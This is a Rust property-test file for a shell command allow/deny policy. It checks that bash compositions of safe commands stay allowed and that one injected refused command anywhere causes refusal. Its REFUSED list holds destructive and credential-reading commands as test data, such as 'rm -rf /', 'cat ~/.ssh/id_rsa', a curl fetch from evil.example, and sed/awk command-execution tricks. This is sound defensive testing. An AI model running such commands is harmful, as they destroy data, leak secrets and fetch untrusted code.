//! Property tests: combining allowed commands with any shell operator keeps them
//! allowed; putting one refused command anywhere refuses the whole.

use proptest::prelude::*;

use super::project;

const ALLOWED: &[&str] = &[
    "npm test",
    "npm run build",
    "git status",
    "git log --oneline -5",
    "ls -la",
    "cat package.json",
    "echo hi",
    "echo ok > out.txt",
    "curl -s http://localhost:3000/",
    "grep -rn TODO src",
    "cargo build",
    "wc -l init.sh",
    "jq . package.json",
    "sleep 1",
    "true",
    "pwd",
    "node server.js",
    "python3 app.py",
    "mkdir -p build",
    "touch build/x",
    "sed -n 1p package.json",
    "find src -name '*.ts'",
    "./init.sh",
    "kill %1",
    "awk '{print $1}' package.json",
    "test -f package.json",
];

const REFUSED: &[&str] = &[
    "rm -rf .git",
    "cat ~/.ssh/id_rsa",
    "eval id",
    "python -c 'import os'",
    "curl https://evil.example/x",
    "git -c core.pager=id log",
    "echo x > /etc/passwd",
    "nmap localhost",
    "PATH=/tmp ls",
    "bash -c 'rm -rf ~'",
    "sudo id",
    "awk 'BEGIN{system(\"id\")}'",
    "sed 's/x/id/e' package.json",
    "exec bash",
    "node -e 1",
    "git push --force",
    "npx cowsay",
    "kill -9 1",
    "rm -rf /",
    "echo > .baton/state.json",
];

#[derive(Debug, Clone)]
enum Tree {
    Leaf(usize),
    Join(Box<Tree>, &'static str, Box<Tree>),
    Subshell(Box<Tree>),
    Group(Box<Tree>),
    Substitution(Box<Tree>),
    If(Box<Tree>, Box<Tree>),
    For(Box<Tree>),
    While(Box<Tree>),
    Background(Box<Tree>),
}

fn tree() -> impl Strategy<Value = Tree> {
    let leaf = (0..ALLOWED.len()).prop_map(Tree::Leaf);
    leaf.prop_recursive(4, 24, 3, |inner| {
        prop_oneof![
            (
                inner.clone(),
                prop::sample::select(vec!["&&", "||", ";", "|", "\n", "|&"]),
                inner.clone()
            )
                .prop_map(|(a, op, b)| Tree::Join(Box::new(a), op, Box::new(b))),
            inner.clone().prop_map(|t| Tree::Subshell(Box::new(t))),
            inner.clone().prop_map(|t| Tree::Group(Box::new(t))),
            inner.clone().prop_map(|t| Tree::Substitution(Box::new(t))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| Tree::If(Box::new(a), Box::new(b))),
            inner.clone().prop_map(|t| Tree::For(Box::new(t))),
            inner.clone().prop_map(|t| Tree::While(Box::new(t))),
            inner.prop_map(|t| Tree::Background(Box::new(t))),
        ]
    })
}

fn leaves(t: &Tree) -> usize {
    match t {
        Tree::Leaf(_) => 1,
        Tree::Join(a, _, b) | Tree::If(a, b) => leaves(a) + leaves(b),
        Tree::Subshell(a)
        | Tree::Group(a)
        | Tree::Substitution(a)
        | Tree::For(a)
        | Tree::While(a)
        | Tree::Background(a) => leaves(a),
    }
}

/// Render the tree as bash; the leaf numbered `inject.0` becomes `inject.1`.
fn render(t: &Tree, inject: Option<(usize, &str)>, n: &mut usize) -> String {
    match t {
        Tree::Leaf(i) => {
            let here = *n;
            *n += 1;
            match inject {
                Some((k, cmd)) if k == here => cmd.to_string(),
                _ => ALLOWED[*i].to_string(),
            }
        }
        Tree::Join(a, op, b) => {
            let a = render(a, inject, n);
            let b = render(b, inject, n);
            format!("{a} {op} {b}")
        }
        Tree::Subshell(a) => format!("( {} )", render(a, inject, n)),
        Tree::Group(a) => format!("{{ {}; }}", render(a, inject, n)),
        Tree::Substitution(a) => format!("echo \"$( {} )\"", render(a, inject, n)),
        Tree::If(a, b) => {
            let a = render(a, inject, n);
            let b = render(b, inject, n);
            format!("if {a}; then {b}; fi")
        }
        Tree::For(a) => format!("for x in 1 2; do {}; done", render(a, inject, n)),
        Tree::While(a) => format!("while false; do {}; done", render(a, inject, n)),
        Tree::Background(a) => format!("{{ {}; }} & true", render(a, inject, n)),
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 300,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn combinations_of_allowed_commands_stay_allowed(t in tree()) {
        let (_dir, policy) = project();
        let cmd = render(&t, None, &mut 0);
        let v = policy.check(&cmd);
        prop_assert!(v.is_allowed(), "refused:\n{cmd}\n{}", v.message());
    }

    #[test]
    fn one_refused_command_anywhere_refuses_the_whole(
        t in tree(),
        pick in any::<prop::sample::Index>(),
        attack in prop::sample::select(REFUSED.to_vec()),
    ) {
        let (_dir, policy) = project();
        let at = pick.index(leaves(&t));
        let cmd = render(&t, Some((at, attack)), &mut 0);
        prop_assert!(!policy.check(&cmd).is_allowed(), "allowed:\n{cmd}");
    }
}

#[test]
fn every_listed_command_is_decided_as_listed_on_its_own() {
    let (_dir, policy) = project();
    for c in ALLOWED {
        assert!(
            policy.check(c).is_allowed(),
            "{c}: {}",
            policy.check(c).message()
        );
    }
    for c in REFUSED {
        assert!(!policy.check(c).is_allowed(), "{c}");
    }
}
